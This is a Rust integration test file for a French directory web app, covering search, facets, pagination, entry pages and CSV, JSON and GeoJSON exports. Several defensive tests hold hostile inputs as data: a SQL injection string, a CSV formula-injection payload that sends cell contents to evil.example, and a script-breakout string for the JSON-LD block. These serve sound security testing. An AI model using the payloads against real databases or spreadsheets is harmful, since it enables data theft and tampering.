//! The directory over HTTP, on both databases: search (accents, prefixes, ranking, hostile
//! input), facets, pagination, empty results, entry pages, exports parsed back.
#![cfg(feature = "ssr")]

use crate::common;

use common::TestApp;

/// Structure names in result order, read from the page.
fn result_names(html: &str) -> Vec<String> {
    html.split("<li class=\"result\"><h3><a href=\"/annuaire/")
        .skip(1)
        .map(|chunk| {
            let start = chunk.find('>').unwrap() + 1;
            let end = chunk.find("</a>").unwrap();
            chunk[start..end].replace("&amp;", "&")
        })
        .collect()
}

/// The result count in the heading of a directory page (0 for « Aucune structure »).
pub(crate) fn total(html: &str) -> i64 {
    let start = html.find("<h2 id=\"resultats\"").expect("results heading");
    let text = &html[start..];
    let text = &text[text.find('>').unwrap() + 1..text.find("</h2>").unwrap()];
    if text.starts_with("Aucune") {
        return 0;
    }
    text.chars()
        .filter(char::is_ascii_digit)
        .collect::<String>()
        .parse()
        .unwrap()
}

async fn search(app: &TestApp, query: &str) -> String {
    let (status, html) = app.get_text(&format!("/annuaire?{query}")).await;
    assert_eq!(status, 200, "{query}");
    html
}

/// query -> names that must be found (the first one must rank first when `first` is set).
const CASES: &[(&str, &[&str], bool)] = &[
    ("q=poesie", &["Maison de la poésie"], true),
    ("q=POÉSIE", &["Maison de la poésie"], true),
    (
        "q=economie",
        &[
            "Acteurs pour une économie solidaire",
            "Chambre régionale de l'économie sociale et solidaire Hauts-de-France",
        ],
        false,
    ),
    ("q=recycl", &["Ressourcerie du Dunkerquois"], false),
    ("q=papil", &["Les Papillons Blancs de Dunkerque"], true),
    (
        "q=URIAE",
        &["Union régionale de l'insertion par l'activité économique"],
        true,
    ),
    (
        "q=ressourcerie+dunkerquois",
        &["Ressourcerie du Dunkerquois"],
        true,
    ),
    (
        "q=cigales",
        &["Pôle de finance solidaire des CIGALES"],
        true,
    ),
    ("q=creche+solidaire", &["Work&Co"], true),
    // Plurals and simple inflections find the singular, and the reverse.
    (
        "q=recycleries",
        &[
            "Recyclerie d'Auchel",
            "Recyclerie Divion",
            "Recyclerie Grande-Synthe",
        ],
        false,
    ),
    (
        "q=ressourceries",
        &["Ressourcerie du Dunkerquois", "Ressourcerie Spycker"],
        false,
    ),
    ("q=mobiliers", &["Ressourcerie du Dunkerquois"], true),
    (
        "q=associations",
        &["Entreprendre Ensemble", "Les Papillons Blancs de Dunkerque"],
        false,
    ),
    // One typo in a word of five letters or more.
    (
        "q=recylage",
        &[
            "Ressourcerie Spycker",
            "Recyclerie Grande-Synthe",
            "Ressourcerie du Dunkerquois",
        ],
        false,
    ),
    (
        "q=insersion",
        &["Union régionale de l'insertion par l'activité économique"],
        true,
    ),
    ("q=dunkerque", &["Les Papillons Blancs de Dunkerque"], false),
    ("q=DUNKERQUE", &["Microcrédit pour tous Dunkerque"], false),
    ("q=dunkerqe", &["Terre vivante Dunkerque"], false),
];

/// Misspellings of two letters or more find nothing (one typo only).
const NOTHING: &[&str] = &["q=poesei", "q=rcylage", "q=zzzzzz", "q=recyclagezz"];

async fn french_queries_find_the_expected_structures(app: TestApp) {
    for (query, expected, first) in CASES {
        let html = search(&app, query).await;
        let names = result_names(&html);
        for name in *expected {
            assert!(
                names.iter().any(|n| n == name),
                "{query}: {name} missing from {names:?}"
            );
        }
        if *first {
            assert_eq!(
                names.first().map(String::as_str),
                Some(expected[0]),
                "{query}: ranking"
            );
        }
    }
}

async fn misspellings_beyond_one_typo_find_nothing(app: TestApp) {
    for query in NOTHING {
        assert_eq!(total(&search(&app, query).await), 0, "{query}");
    }
}

/// An exact word ranks above a word one typo away, whatever the field; the name above the
/// offer, the offer above the description.
async fn typos_rank_below_exact_words(app: TestApp) {
    common::create_structure(&app, "Atelier Recylage").await;
    common::create_structure(&app, "Atelier Recyclage").await;
    let names = result_names(&search(&app, "q=recyclage").await);
    let at = |name: &str| names.iter().position(|n| n == name).unwrap();
    assert!(
        at("Atelier Recyclage") < at("Atelier Recylage"),
        "{names:?}"
    );
    // Offers (Spycker, Grande-Synthe) above the description (du Dunkerquois).
    assert!(
        at("Ressourcerie Spycker") < at("Ressourcerie du Dunkerquois"),
        "{names:?}"
    );
    assert!(
        at("Recyclerie Grande-Synthe") < at("Ressourcerie du Dunkerquois"),
        "{names:?}"
    );
    assert_eq!(names[0], "Atelier Recyclage");
    let names = result_names(&search(&app, "q=recyclerie").await);
    assert!(
        names[..3].iter().all(|n| n.starts_with("Recyclerie")),
        "{names:?}"
    );
}

/// An entry saved through one app server shows in another's results within 2 seconds (each
/// server has its own index and follows the change log), and disappears as fast when it is
/// unpublished.
async fn an_edit_shows_on_every_server_within_two_seconds(app: TestApp) {
    let other = app.another_server().await;
    let client = reqwest::Client::new();
    let total_on_other = |query: &'static str| {
        let (client, url) = (client.clone(), format!("{other}/annuaire?{query}"));
        async move { total(&client.get(url).send().await.unwrap().text().await.unwrap()) }
    };
    let wait_for = |query: &'static str, expected: i64| {
        let total_on_other = &total_on_other;
        async move {
            let started = std::time::Instant::now();
            loop {
                if total_on_other(query).await == expected {
                    return started.elapsed();
                }
                assert!(
                    started.elapsed() < std::time::Duration::from_secs(2),
                    "{query}: still not {expected} after 2 s"
                );
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            }
        }
    };
    assert_eq!(total_on_other("q=zephyrin").await, 0);
    common::edit_asteur(
        &app,
        "gerante@asteur.example",
        "Les Courses Zéphyrin",
        "Livraisons à vélo cargo",
    )
    .await;
    // The server that saved it answers with it at once.
    assert_eq!(total(&search(&app, "q=zephyrin").await), 1);
    let shown = wait_for("q=zephyrin", 1).await;
    // Unpublished by any means (here a statement on the database): gone from both.
    sqlx::query("UPDATE structures SET status = 'draft' WHERE slug = 'les-courses-asteur'")
        .execute(&app.db.pool)
        .await
        .unwrap();
    let hidden = wait_for("q=zephyrin", 0).await;
    println!("shown on the other server after {shown:?}, hidden after {hidden:?}");
}

async fn name_matches_rank_above_description_matches(app: TestApp) {
    // « poésie » is in one name and in no other field of the demo data than that structure's;
    // « insertion » is in names, offers and descriptions: names come first.
    let names = result_names(&search(&app, "q=insertion").await);
    let with_name = names
        .iter()
        .take_while(|n| n.to_lowercase().contains("insertion"))
        .count();
    assert!(with_name >= 1, "{names:?}");
    assert!(
        names[with_name..]
            .iter()
            .all(|n| !n.to_lowercase().contains("insertion")),
        "{names:?}"
    );
}

async fn hostile_input_never_breaks_the_search(app: TestApp) {
    for q in [
        "%22",
        "%27",
        "*",
        "OR",
        "NEAR(",
        ")",
        "-",
        "%5E",
        ":",
        "%5C",
        "%25",
        "_",
        "AND+OR+NOT",
        "%22%22%22",
        "%3BDROP+TABLE+structures%3B--",
        "%F0%9F%8C%B1",
        "name%3Arecycl",
        "recycl*",
        "%7B%7D%5B%5D",
        "a",
        // Characters PostgreSQL's unaccent expands into query syntax.
        "x%C2%BD",
        "%C2%BD",
        "%E2%91%B4",
        "%CA%BC",
        "%CB%90",
        "dunkerque%CA%BCs",
        "%E2%84%A2%E2%84%83%E2%84%96",
        "%EF%AC%80",
    ] {
        let (status, html) = app.get_text(&format!("/annuaire?q={q}")).await;
        assert_eq!(status, 200, "q={q}");
        assert!(html.contains("id=\"resultats\""), "q={q}");
    }
    let long = "mot".repeat(500);
    assert_eq!(app.get(&format!("/annuaire?q={long}")).await.status(), 200);
    assert_eq!(app.count("structures").await, 60);
}

async fn facet_counts_match_filtered_totals(app: TestApp) {
    let html = search(&app, "").await;
    assert_eq!(total(&html), 60);
    for (facet, count) in [
        ("secteur=culture", None),
        ("forme=scop", None),
        ("territoire=artois-comm", None),
    ] {
        let _: Option<i64> = count;
        let link = format!("href=\"/annuaire?{facet}\"");
        let at = html
            .find(&link)
            .unwrap_or_else(|| panic!("no facet link {facet}"));
        let tail = &html[at..];
        let count_start =
            tail.find("<span class=\"count\">").unwrap() + "<span class=\"count\">".len();
        let shown: i64 = tail[count_start..count_start + tail[count_start..].find('<').unwrap()]
            .parse()
            .unwrap();
        let filtered = total(&search(&app, facet).await);
        assert_eq!(shown, filtered, "{facet}");
        assert!(filtered > 0 && filtered < 60, "{facet}: {filtered}");
    }
}

async fn filters_combine_with_the_query(app: TestApp) {
    let names =
        result_names(&search(&app, "q=solidaire&territoire=metropole-europeenne-de-lille").await);
    assert!(!names.is_empty());
    assert!(names.iter().all(|n| !n.contains("Dunkerque")), "{names:?}");
    let all_lille: i64 = total(&search(&app, "territoire=lille").await);
    assert_eq!(all_lille, 4, "Réseau Alliances, URIAE, CRESS, APES");
    assert_eq!(total(&search(&app, "territoire=lille&forme=scop").await), 0);
    let two_sectors = total(&search(&app, "secteur=culture&secteur=sport").await);
    let culture = total(&search(&app, "secteur=culture").await);
    assert!(two_sectors >= culture, "several sectors widen the search");
}

async fn pagination_walks_through_every_result(app: TestApp) {
    let mut seen = std::collections::HashSet::new();
    for page in 1..=3 {
        let html = search(&app, &format!("page={page}")).await;
        let names = result_names(&html);
        assert_eq!(names.len(), 20, "page {page}");
        assert!(html.contains(&format!("Page {page} sur 3")));
        seen.extend(names);
    }
    assert_eq!(seen.len(), 60);
    let page1 = search(&app, "").await;
    assert!(page1.contains("href=\"/annuaire?page=2\" rel=\"next\""));
    assert!(!page1.contains("rel=\"prev\""));
    assert!(result_names(&search(&app, "page=4").await).is_empty());
}

async fn empty_results_suggest_removing_filters(app: TestApp) {
    let html = search(&app, "q=zzzzqqq&secteur=sport").await;
    assert_eq!(total(&html), 0);
    assert!(html.contains("Aucune structure ne correspond"));
    assert!(
        html.contains("href=\"/annuaire?q=zzzzqqq\""),
        "link without the filters"
    );
}

async fn drafts_are_neither_listed_nor_shown(app: TestApp) {
    sqlx::query("UPDATE structures SET status = 'draft' WHERE slug = 'maison-de-la-poesie'")
        .execute(&app.db.pool)
        .await
        .unwrap();
    app.db.pool.acquire().await.unwrap();
    assert_eq!(app.get("/annuaire/maison-de-la-poesie").await.status(), 404);
    let csv = app
        .get("/annuaire.csv?q=poesie")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(csv.lines().count(), 1, "only the header");
}

async fn entry_page_shows_public_fields_and_json_ld(app: TestApp) {
    let (status, html) = app.get_text("/annuaire/les-courses-asteur").await;
    assert_eq!(status, 200);
    assert!(html.contains("<h1>Les Courses Asteur"));
    assert!(html.contains("SCOP"));
    assert!(html.contains("href=\"/annuaire?secteur=services-a-la-personne\""));
    assert!(html.contains("href=\"/annuaire?territoire=communaute-urbaine-de-dunkerque\""));
    assert!(html.contains("https://www.openstreetmap.org/?mlat="));
    let start = html
        .find("<script type=\"application/ld+json\"")
        .expect("JSON-LD");
    let body = &html[start..];
    let json = &body[body.find('>').unwrap() + 1..body.find("</script>").unwrap()];
    let value: serde_json::Value = serde_json::from_str(json).unwrap();
    assert_eq!(value["@type"], "Organization");
    assert_eq!(value["name"], "Les Courses Asteur");
    assert_eq!(value["address"]["addressLocality"], "Dunkerque");
    let (status, html) = app.get_text("/annuaire/inconnue").await;
    assert_eq!(status, 404);
    assert!(html.contains("Page introuvable"));
}

async fn csv_export_parses_back_with_accents(app: TestApp) {
    let response = app.get("/annuaire.csv?secteur=culture").await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    let bytes = response.bytes().await.unwrap();
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "UTF-8 byte-order mark for Excel"
    );
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "identifiant");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(
        rows.len() as i64,
        total(&search(&app, "secteur=culture").await)
    );
    let sectors = headers.iter().position(|h| h == "secteurs").unwrap();
    assert!(rows.iter().all(|r| r[sectors].contains("Culture")));
    let poesie = rows
        .iter()
        .find(|r| &r[0] == "maison-de-la-poesie")
        .expect("Maison de la poésie exported");
    assert_eq!(&poesie[1], "Maison de la poésie");
}

/// A name typed as a formula comes out of the CSV as text: Excel and LibreOffice will not run it.
async fn csv_cells_that_look_like_formulas_are_neutralised(app: TestApp) {
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";
    sqlx::query("UPDATE structures SET name = $1, offer = $2, phone = $3 WHERE slug = 'maison-de-la-poesie'")
        .bind(hostile)
        .bind("@SUM(1+1)")
        .bind("+33 3 53 73 00 00")
        .execute(&app.db.pool)
        .await
        .unwrap();
    let bytes = app.get("/annuaire.csv").await.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = reader
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == "maison-de-la-poesie")
        .unwrap();
    assert_eq!(&row[column("nom")], format!("'{hostile}"));
    assert_eq!(&row[column("offre")], "'@SUM(1+1)");
    assert_eq!(&row[column("telephone")], "'+33 3 53 73 00 00");
    assert_eq!(
        &row[column("commune")],
        "Beuvry",
        "ordinary cells untouched"
    );
}

/// Twenty clients that open the export and never read past its first line hold no database
/// connection: the pool (8 connections on SQLite, with a 5-second acquire timeout) stays free for
/// everyone else's searches. Checked on the pool itself, not on a stopwatch: on two busy cores a
/// search beside twenty exports may be slow without waiting for any connection.
async fn stalled_exports_leave_the_pool_to_everyone_else(app: TestApp) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    dessine::seed::synthetic(&app.db, 40_000).await.unwrap();
    let address = app.base.trim_start_matches("http://").to_owned();
    let mut stalled = Vec::new();
    for _ in 0..20 {
        let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
        stream
            .write_all(
                format!("GET /annuaire.csv HTTP/1.1\r\nHost: {address}\r\nAccept-Encoding: identity\r\n\r\n")
                    .as_bytes(),
            )
            .await
            .unwrap();
        // Read the status line, so the export has surely started, then never read again.
        let mut head = [0u8; 12];
        stream.read_exact(&mut head).await.unwrap();
        assert_eq!(&head, b"HTTP/1.1 200", "export answered");
        stalled.push(stream);
    }
    // Once every export is blocked on a full socket buffer, none may hold a connection.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let in_use = app.db.pool.size() as usize - app.db.pool.num_idle();
        if in_use == 0 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{in_use} connections still held by stalled exports after 60 s"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    // More searches than the pool has connections, each answered (a held pool would time out).
    for q in [
        "recyclage",
        "insertion",
        "culture",
        "velo",
        "bois",
        "repas",
        "jardin",
        "mobilite",
        "emploi",
        "energie",
    ] {
        let response = app.get(&format!("/annuaire?q={q}")).await;
        assert_eq!(
            response.status(),
            200,
            "search for {q} beside the stalled exports"
        );
    }
    drop(stalled);
}

async fn json_export_matches_the_search(app: TestApp) {
    let response = app.get("/annuaire.json?q=recycl").await;
    assert_eq!(response.headers()["content-type"], "application/json");
    let items: Vec<serde_json::Value> = response.json().await.unwrap();
    assert_eq!(items.len() as i64, total(&search(&app, "q=recycl").await));
    assert!(
        items
            .iter()
            .any(|i| i["nom"] == "Ressourcerie du Dunkerquois")
    );
    let all: Vec<serde_json::Value> = app.get("/annuaire.json").await.json().await.unwrap();
    assert_eq!(all.len(), 60);
    assert!(
        all.iter()
            .all(|i| i["secteurs"].as_array().is_some_and(|s| !s.is_empty()))
    );
}

/// `/annuaire.geojson` is RFC 7946 GeoJSON, parsed back: a `FeatureCollection` of `Feature`s,
/// each a `Point` of [longitude, latitude] in range (or a null geometry), for exactly the
/// structures of the same search, in the same order as the JSON export.
async fn geojson_export_is_valid_and_matches_the_search(app: TestApp) {
    for query in ["q=recycl", "", "secteur=culture", "q=zzzzqq"] {
        let response = app.get(&format!("/annuaire.geojson?{query}")).await;
        assert_eq!(response.status(), 200);
        assert_eq!(response.headers()["content-type"], "application/geo+json");
        let collection: serde_json::Value = response.json().await.unwrap();
        assert_eq!(collection["type"], "FeatureCollection", "{query}");
        let features = collection["features"].as_array().unwrap();
        let listed: Vec<serde_json::Value> = app
            .get(&format!("/annuaire.json?{query}"))
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(features.len(), listed.len(), "{query}");
        let mut located = 0;
        for (feature, item) in features.iter().zip(&listed) {
            assert_eq!(feature["type"], "Feature");
            let properties = feature["properties"].as_object().unwrap();
            assert_eq!(properties["identifiant"], item["identifiant"]);
            assert_eq!(properties["url"], item["url"]);
            let geometry = &feature["geometry"];
            if geometry.is_null() {
                assert!(item["latitude"].is_null() || item["longitude"].is_null());
                continue;
            }
            located += 1;
            assert_eq!(geometry["type"], "Point");
            let position = geometry["coordinates"].as_array().unwrap();
            assert_eq!(position.len(), 2);
            let (lon, lat) = (position[0].as_f64().unwrap(), position[1].as_f64().unwrap());
            assert!((-180.0..=180.0).contains(&lon) && (-90.0..=90.0).contains(&lat));
            // Longitude first: in metropolitan France a swapped pair would be caught here.
            assert!(
                (-5.5..10.0).contains(&lon) && (41.0..51.5).contains(&lat),
                "{lon} {lat}"
            );
            assert!(
                (lon - item["longitude"].as_f64().unwrap()).abs() < 1e-5,
                "{query}"
            );
            assert!(
                (lat - item["latitude"].as_f64().unwrap()).abs() < 1e-5,
                "{query}"
            );
        }
        if query.is_empty() {
            assert!(
                located > 40,
                "the demo's structures have coordinates: {located}"
            );
        }
    }
}

/// The sector filter and facet read a bit set mirrored from `structure_sectors`; the export reads
/// the table itself. Both must agree for every sector, alone and combined.
async fn sector_filter_agrees_with_the_sector_table(app: TestApp) {
    let all: Vec<serde_json::Value> = app.get("/annuaire.json").await.json().await.unwrap();
    let has = |item: &serde_json::Value, name: &str| {
        item["secteurs"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s == name)
    };
    let sectors: Vec<(String, String)> =
        sqlx::query_as("SELECT slug, name FROM sectors ORDER BY position")
            .fetch_all(&app.db.pool)
            .await
            .unwrap();
    assert_eq!(sectors.len(), 12);
    for (slug, name) in &sectors {
        let expected = all.iter().filter(|item| has(item, name)).count() as i64;
        assert_eq!(
            total(&search(&app, &format!("secteur={slug}")).await),
            expected,
            "{slug}"
        );
    }
    let (a, b) = (&sectors[0], &sectors[7]);
    let either = all
        .iter()
        .filter(|item| has(item, &a.1) || has(item, &b.1))
        .count() as i64;
    assert_eq!(
        total(&search(&app, &format!("secteur={}&secteur={}", a.0, b.0)).await),
        either
    );
    let unknown = search(&app, "secteur=inconnu").await;
    assert_eq!(total(&unknown), 0);
}

async fn demo_directory_seed_is_idempotent(app: TestApp) {
    let (structures, links) = (
        app.count("structures").await,
        app.count("structure_sectors").await,
    );
    assert_eq!(structures, 60);
    dessine::seed::demo(&app.db).await.unwrap();
    assert_eq!(app.count("structures").await, structures);
    assert_eq!(app.count("structure_sectors").await, links);
}

async fn synthetic_seed_is_deterministic_and_searchable(app: TestApp) {
    assert_eq!(dessine::seed::synthetic(&app.db, 300).await.unwrap(), 300);
    assert_eq!(
        dessine::seed::synthetic(&app.db, 300).await.unwrap(),
        0,
        "same rows again"
    );
    assert_eq!(app.count("structures").await, 360);
    app.search_caught_up().await;
    let html = search(&app, "territoire=paris").await;
    assert!(total(&html) > 0);
}

/// Issue 27, finding 11: a description holding `<!--<script>` or `</script>` cannot end the
/// JSON-LD script of the entry's page (the page kept no `<h1>` and no footer).
async fn json_ld_cannot_swallow_the_page(app: TestApp) {
    let text = "Atelier <!--<script> </script> & \u{2028} fin";
    sqlx::query("UPDATE structures SET description = $1 WHERE slug = 'entreprendre-ensemble'")
        .bind(text)
        .execute(&app.db.pool)
        .await
        .unwrap();
    let (status, html) = app.get_text("/annuaire/entreprendre-ensemble").await;
    assert_eq!(status, 200);
    let script = html
        .split("<script type=\"application/ld+json\"")
        .nth(1)
        .and_then(|rest| rest.split("</script>").next())
        .expect("the page has its JSON-LD");
    assert!(
        script.contains("\\u003c!--\\u003cscript\\u003e") && !script.contains("<!--"),
        "{script}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&script[script.find('>').unwrap() + 1..]).unwrap();
    assert_eq!(json["description"], text, "the JSON means the same");
    let after = &html[html.find("application/ld+json").unwrap()..];
    assert!(
        after.contains("class=\"site-footer\""),
        "the page goes on after the script"
    );
}

on_both_databases!(
    json_ld_cannot_swallow_the_page,
    french_queries_find_the_expected_structures,
    misspellings_beyond_one_typo_find_nothing,
    typos_rank_below_exact_words,
    an_edit_shows_on_every_server_within_two_seconds,
    name_matches_rank_above_description_matches,
    hostile_input_never_breaks_the_search,
    facet_counts_match_filtered_totals,
    filters_combine_with_the_query,
    pagination_walks_through_every_result,
    empty_results_suggest_removing_filters,
    drafts_are_neither_listed_nor_shown,
    entry_page_shows_public_fields_and_json_ld,
    csv_export_parses_back_with_accents,
    csv_cells_that_look_like_formulas_are_neutralised,
    stalled_exports_leave_the_pool_to_everyone_else,
    json_export_matches_the_search,
    geojson_export_is_valid_and_matches_the_search,
    sector_filter_agrees_with_the_sector_table,
    demo_directory_seed_is_idempotent,
    synthetic_seed_is_deterministic_and_searchable,
);
